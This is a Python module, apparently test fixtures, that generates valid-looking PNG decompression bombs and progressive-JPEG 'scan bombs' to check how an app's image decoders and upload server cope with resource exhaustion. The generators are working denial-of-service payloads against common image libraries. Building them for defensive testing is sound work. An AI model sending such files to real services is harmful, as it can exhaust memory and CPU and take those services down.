"""Crafted uploads that cost a decoder far more than their size: what scripts/hostile.py sends to a
server and the tests send to the decoders. Each is a valid file (every checksum right, every scan in a
legal progression), so a decoder cannot refuse it for being broken.

No library writes these: Pillow's encoders choose their own deflate stream and JPEG scans.
"""

from __future__ import annotations

import struct
import zlib

from app.imaging.pngwrite import SIGNATURE, chunk

MB = 1024 * 1024


def raw_png(
    width: int, height: int, stream: bytes, *, depth: int = 8, color: int = 2, key: bytes = b""
) -> bytes:
    """A PNG whose IHDR says `width` x `height`, `depth` bits, colour type `color`, with one IDAT
    holding `stream` as it is (no check that it fits the header) and, when given, a tRNS `key`."""
    ihdr = chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, color, 0, 0, 0))
    trns = chunk(b"tRNS", key) if key else b""
    return SIGNATURE + ihdr + trns + chunk(b"IDAT", stream) + chunk(b"IEND", b"")


def pixel_bomb(inflated_mb: int, depth: int = 8) -> bytes:
    """A 16 x 12 RGB PNG (16-bit ones with a tRNS key colour, which pypng reads) whose IDAT stream
    goes on past the image: `inflated_mb` MB of zeros, about a thousandth of that sent. Each MB is
    deflated once after a full flush (which forgets the history, so every copy decodes alike) and
    repeated; the adler32 of n more zeros adds n x A to B."""
    rows = bytes(12 * (1 + 16 * 3 * depth // 8))
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    head = packer.compress(rows) + packer.flush(zlib.Z_FULL_FLUSH)
    piece = packer.compress(bytes(MB)) + packer.flush(zlib.Z_FULL_FLUSH)
    adler = zlib.adler32(rows)
    a, b = adler & 0xFFFF, adler >> 16
    check = ((b + inflated_mb * MB * a) % 65521) << 16 | a
    stream = b"\x78\xda" + head + piece * inflated_mb + packer.flush() + struct.pack(">I", check)
    return raw_png(16, 12, stream, depth=depth, key=b"\x00\x01" * 3 if depth == 16 else b"")


def _segment(marker: int, payload: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(payload) + 2) + payload


class _Bits:
    """A JPEG entropy-coded segment, most significant bit first, every 0xFF byte followed by 0x00."""

    def __init__(self) -> None:
        self.out = bytearray()
        self.acc = self.n = 0

    def put(self, value: int, nbits: int) -> None:
        for i in range(nbits - 1, -1, -1):
            self.acc, self.n = (self.acc << 1) | ((value >> i) & 1), self.n + 1
            if self.n == 8:
                self.out += b"\xff\x00" if self.acc == 0xFF else bytes([self.acc])
                self.acc = self.n = 0

    def done(self) -> bytes:
        if self.n:
            self.put((1 << (8 - self.n)) - 1, 8 - self.n)  # pad with 1 bits
        return bytes(self.out)


def scan_bomb(side: int, bands: int = 63, bits: int = 13) -> bytes:
    """A grey `side` x `side` (a multiple of 8) progressive 4:4:4 colour JPEG of 1 + 3 x `bands` x
    (`bits` + 1) scans, up to 2647: every AC coefficient of every component in its own band, sent in
    `bits` + 1 successive-approximation steps. Each scan is a few bytes, as end-of-band runs of 32767
    blocks say "nothing here" for the whole image, and each one is still a pass over every block of its
    component (libjpeg-turbo's LJT-01-003). The first scan sends every DC difference as 0."""
    blocks = (side // 8) ** 2
    parts = [b"\xff\xd8", _segment(0xDB, b"\x00" + bytes([1]) * 64)]
    sof = struct.pack(">BHHB", 8, side, side, 3) + b"".join(bytes([c, 0x11, 0]) for c in (1, 2, 3))
    parts.append(_segment(0xC2, sof))
    parts.append(_segment(0xC4, b"\x00" + bytes([1] + [0] * 15) + b"\x00"))  # DC: "0" is category 0
    # AC: EOB0..EOB14 (symbol n << 4: a run of 2^n + n extra bits of blocks), 4-bit codes 0..14
    parts.append(_segment(0xC4, b"\x10" + bytes([0, 0, 0, 15] + [0] * 12) + bytes(n << 4 for n in range(15))))
    dc_bits = 3 * blocks  # one "0" code per block and component, padded with 1 bits
    dc = bytes(dc_bits // 8) + (bytes([(1 << (8 - dc_bits % 8)) - 1]) if dc_bits % 8 else b"")
    parts.append(_segment(0xDA, bytes([3, 1, 0, 2, 0, 3, 0, 0, 0, 0])) + dc)
    runs, left = _Bits(), blocks
    while left:
        run = min(left, 32767)
        n = run.bit_length() - 1
        runs.put(n, 4)
        runs.put(run - (1 << n), n)
        left -= run
    data = runs.done()
    steps = [(0, bits)] + [(b, b - 1) for b in range(bits, 0, -1)]
    for component in (1, 2, 3):
        for k in range(1, bands + 1):
            for high, low in steps:
                header = bytes([1, component, 0x00, k, k, (high << 4) | low])
                parts.append(_segment(0xDA, header) + data)
    parts.append(b"\xff\xd9")
    return b"".join(parts)
